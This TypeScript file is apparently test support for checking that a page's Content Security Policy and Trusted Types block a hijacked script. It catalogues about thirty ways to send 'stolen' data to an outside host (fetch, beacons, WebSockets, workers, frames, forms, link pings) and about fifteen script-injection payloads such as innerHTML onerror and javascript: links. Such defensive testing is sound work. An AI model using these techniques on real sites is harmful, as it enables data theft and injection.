/** A script that took over the page tries to send something to `to`, which is no destination. */
export type WayOut = (to: string) => unknown

declare function append(name: string, attributes: Record<string, string>): HTMLElement

/** Runs in the page first; the attempts use the function that it installs. */
export function installAppend(): void {
  Object.assign(globalThis, {
    append: (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    },
  })
}

/** Each runs alone in the page, so that it may use nothing outside itself except `append`. */
export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
  fetch: (to) => fetch(`${to}/`, { method: 'POST', body: 'stolen' }),
  'fetch without CORS': (to) => fetch(`${to}/`, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}/`)
    request.send('stolen')
  },
  'a beacon': (to) => navigator.sendBeacon(`${to}/`, 'stolen'),
  WebSocket: (to) => void new WebSocket(`${to.replace('http', 'ws')}/`),
  EventSource: (to) => void new EventSource(`${to}/`),
  WebTransport: (to) => new WebTransport(`${to.replace('http:', 'https:')}/`).ready,
  'an image': (to) => {
    new Image().src = `${to}/?stolen`
  },
  'a style sheet': (to) => void append('link', { rel: 'stylesheet', href: `${to}/` }),
  'a style': (to) => {
    append('style', {}).textContent = `@import url(${to}/import.css)`
    document.body.style.backgroundImage = `url(${to}/background.png)`
  },
  'a font': (to) => new FontFace('evil', `url(${to}/font.woff2)`).load(),
  'a video': (to) => void append('video', { src: `${to}/video.mp4` }),
  'an object': (to) => void append('object', { data: `${to}/` }),
  'an embedded page': (to) => void append('embed', { src: `${to}/` }),
  'a frame': (to) => void append('iframe', { src: `${to}/?stolen` }),
  'an empty frame': (to) => {
    const frame = append('iframe', {})
    return frame instanceof HTMLIFrameElement && frame.contentWindow?.fetch(`${to}/`)
  },
  'a form': (to) => {
    const form = append('form', { action: `${to}/`, method: 'post', target: 'other' })
    if (form instanceof HTMLFormElement) form.submit()
  },
  'a script': (to) => void append('script', { src: `${to}/` }),
  'a worker': (to) => void new Worker(`${to}/`),
  'a worker of a blob': (to) => void new Worker(URL.createObjectURL(new Blob([`fetch('${to}/')`]))),
  'a worker of data': (to) =>
    void new Worker(`data:text/javascript,${encodeURIComponent(`fetch('${to}/')`)}`),
  'a shared worker of a blob': (to) =>
    void new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}/')`]))),
  'a service worker': (to) => navigator.serviceWorker.register(`${to}/`),
  'a prefetch': (to) => void append('link', { rel: 'prefetch', href: `${to}/` }),
  'a preload': (to) => void append('link', { rel: 'preload', as: 'fetch', href: `${to}/` }),
  'a module preload': (to) => void append('link', { rel: 'modulepreload', href: `${to}/` }),
  'a prerender': (to) => void append('link', { rel: 'prerender', href: `${to}/` }),
  'speculation rules': (to) => {
    append('script', { type: 'speculationrules' }).textContent = JSON.stringify({
      prefetch: [{ urls: [`${to}/`] }],
    })
  },
  'an icon': (to) => void append('link', { rel: 'icon', href: `${to}/` }),
  'a manifest': (to) => void append('link', { rel: 'manifest', href: `${to}/` }),
  'the ping of a link': (to) => append('a', { href: '#', ping: `${to}/` }).click(),
  'another base': (to) => {
    append('base', { href: `${to}/` })
    return fetch('base')
  },
  'a policy of its own': (to) => {
    const content = `connect-src *; report-uri ${to}/report`
    append('meta', { 'http-equiv': 'Content-Security-Policy', content })
    return fetch(`${to}/`)
  },
}

/** Ways to run text as script; each leaves a mark if it succeeds. */
export const WAYS_TO_SCRIPT: Readonly<Record<string, () => unknown>> = {
  // biome-ignore lint/security/noGlobalEval: this is the attack
  eval: () => eval('globalThis.isHit = true'),
  Function: () => new Function('globalThis.isHit = true')(),
  'a timer of text': () => {
    // TypeScript forbids this, but JavaScript allows it.
    const late = setTimeout as unknown as (text: string) => void
    late('globalThis.isHit = true')
  },
  innerHTML: () => {
    document.body.innerHTML += '<img src=x onerror="globalThis.isHit = true">'
  },
  outerHTML: () => {
    append('p', {}).outerHTML = '<img src=x onerror="globalThis.isHit = true">'
  },
  insertAdjacentHTML: () =>
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.isHit = true">'),
  'document.write': () => document.write('<script>globalThis.isHit = true</script>'),
  'a fragment of text': () =>
    document.createRange().createContextualFragment('<script>globalThis.isHit = true</script>'),
  'a script of text': () => {
    append('script', {}).textContent = 'globalThis.isHit = true'
  },
  'a script of our own host': () => append('script', { src: '/assets/evil.js' }),
  'a frame of text': () => append('iframe', { srcdoc: '<script>parent.isHit = true</script>' }),
  'a javascript: link': () => append('a', { href: 'javascript:globalThis.isHit=true' }).click(),
  'a handler of text': () => append('p', { onclick: 'globalThis.isHit = true' }).click(),
  'a policy of its own': () => createPolicy('evil'),
  'our policy once more': () => createPolicy('ferry-workers'),
  'a policy for everything': () => createPolicy('default'),
}

declare function createPolicy(name: string): void

export function installCreatePolicy(): void {
  interface Factory {
    readonly trustedTypes: {
      readonly createPolicy: (name: string, rules: object) => object
    }
  }
  Object.assign(globalThis, {
    createPolicy: (name: string) => {
      const { trustedTypes } = globalThis as unknown as Factory
      trustedTypes.createPolicy(name, { createScript: (text: string) => text })
      Object.assign(globalThis, { isHit: true })
    },
  })
}
